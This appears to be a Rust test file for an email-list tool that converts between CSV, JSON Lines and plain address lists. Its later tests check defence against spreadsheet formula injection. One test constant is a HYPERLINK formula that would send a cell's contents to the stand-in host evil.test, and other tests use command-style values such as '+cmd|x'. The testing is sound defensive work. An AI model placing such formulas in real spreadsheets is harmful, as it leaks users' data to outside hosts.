//! One format written as another.

use super::*;

fn converted(file: &[u8], output: Output) -> String {
    text(written_as(file, output, &COLUMNS, &["risky", "250"]))
}

#[test]
fn any_table_becomes_csv_with_commas() {
    let file =
        b"sep=;\nemail;name\na@acme.test;\"Doe; \"\"J\"\"\"\nb@acme.test;Roe, R;x\n\nc@acme.test\n";
    assert_eq!(
        converted(file, Output::Csv),
        "email,name,verdict,code\na@acme.test,\"Doe; \"\"J\"\"\",risky,250\n\
         b@acme.test,\"Roe, R\",risky,250,x\n\nc@acme.test,,risky,250\n"
    );
    assert_eq!(
        converted(b"a@acme.test\n", Output::Csv),
        "address,verdict,code\na@acme.test,risky,250\n"
    );
}

#[test]
fn a_table_becomes_objects_that_lose_nothing() {
    let file = b"email,x,x,,verdict\r\na@acme.test,1,\"2\n\",3,old,more\r\n\r\nb@acme.test\r\n";
    assert_eq!(
        converted(file, Output::JsonLines),
        "{\"email\":\"a@acme.test\",\"x\":\"1\",\"x_2\":\"2\\n\",\"column_4\":\"3\",\"verdict\":\"old\",\
         \"column_6\":\"more\",\"mailvet_verdict\":\"risky\",\"code\":\"250\"}\n\
         {\"email\":\"b@acme.test\",\"mailvet_verdict\":\"risky\",\"code\":\"250\"}\n"
    );
}

#[test]
fn objects_are_utf8_whatever_the_table_was() {
    let file: Vec<u8> =
        "\u{feff}email,n\r\na@acme.test,ю\r\n".encode_utf16().flat_map(u16::to_le_bytes).collect();
    assert_eq!(
        converted(&file, Output::JsonLines),
        "{\"email\":\"a@acme.test\",\"n\":\"ю\",\"verdict\":\"risky\",\"code\":\"250\"}\n"
    );
}

#[test]
fn a_plain_file_becomes_objects() {
    assert_eq!(
        converted(b"Jane <j@acme.test>\n\n", Output::JsonLines),
        "{\"address\":\"Jane <j@acme.test>\",\"verdict\":\"risky\",\"code\":\"250\"}\n"
    );
}

#[test]
fn objects_become_a_table_and_a_key_without_a_column_is_kept() {
    let mut file = "{\"z\":1,\"email\":\"a@acme.test\",\"o\":{\"p\":[1]}}\n".repeat(2000);
    file += "{\"email\":\"b, b@acme.test\",\"z\":null,\"new\":true}\nnot json\n";
    let out = converted(file.as_bytes(), Output::Csv);
    let mut lines = out.lines();
    assert_eq!(lines.next(), Some("z,email,o,verdict,code,other"));
    assert_eq!(lines.next(), Some("1,a@acme.test,\"{\"\"p\"\":[1]}\",risky,250,"));
    let end: Vec<&str> = lines.skip(1999).collect();
    assert_eq!(end, [",\"b, b@acme.test\",,risky,250,\"{\"\"new\"\":true}\"", ",,,,,not json"]);
}

const FORMULA: &str = "=HYPERLINK(\"http://evil.test/?\"&B2,\"x\")";

/// The fields of the CSV that is written of `file`, without those that are appended.
fn fields(file: &str, output: Output, is_imported: bool) -> Vec<Vec<String>> {
    let options = ReaderOptions { is_imported, ..ReaderOptions::default() };
    let out = rewrite(file.as_bytes(), output, &COLUMNS, &["risky", "250"], &options);
    let mut reader = csv::ReaderBuilder::new();
    let mut reader = reader.has_headers(false).flexible(true).from_reader(&out[..]);
    let row = |row: csv::StringRecord| row.iter().take(2).map(str::to_owned).collect();
    reader.records().map(|record| row(record.unwrap())).collect()
}

#[test]
fn text_that_was_no_table_does_not_come_alive_in_one() {
    let quoted = FORMULA.replace('"', "\"\"");
    let escaped = FORMULA.replace('"', "\\\"");
    for (file, output, is_imported) in [
        (format!("email,n\na@acme.test,\"{quoted}\"\n"), Output::Same, true),
        (format!("{{\"email\":\"a@acme.test\",\"n\":\"{escaped}\"}}\n"), Output::Csv, false),
    ] {
        assert_eq!(fields(&file, output, is_imported)[1], ["a@acme.test", &format!("'{FORMULA}")]);
    }
    let rows = fields("a@acme.test\n=1+1\n+cmd\n", Output::Same, false);
    let first: Vec<&str> = rows.iter().map(|row| row[0].as_str()).collect();
    assert_eq!(first, ["address", "a@acme.test", "'=1+1", "'+cmd"]);
    // Notes above the header and names of columns are text, too.
    let file = "\"=1+1\",\n\"=2+2\",email\nx,a@acme.test\n";
    let rows = fields(file, Output::Same, true);
    assert_eq!((rows[0][0].as_str(), rows[1][0].as_str()), ("'=1+1", "'=2+2"));
}

#[test]
fn a_number_is_no_formula_and_a_table_keeps_its_own() {
    for text in ["-1.5", "+49 (30) 12-34", "-", "12", "a=b"] {
        let file = format!("email,n\na@acme.test,{text}\n");
        assert_eq!(fields(&file, Output::Same, true)[1][1], text);
    }
    for text in ["+cmd|x", "-1+cmd", "@SUM(A1)"] {
        let file = format!("email,n\na@acme.test,{text}\n");
        assert_eq!(fields(&file, Output::Same, true)[1][1], format!("'{text}"));
        assert_eq!(fields(&file, Output::Same, false)[1][1], text, "its owner knows it");
    }
}
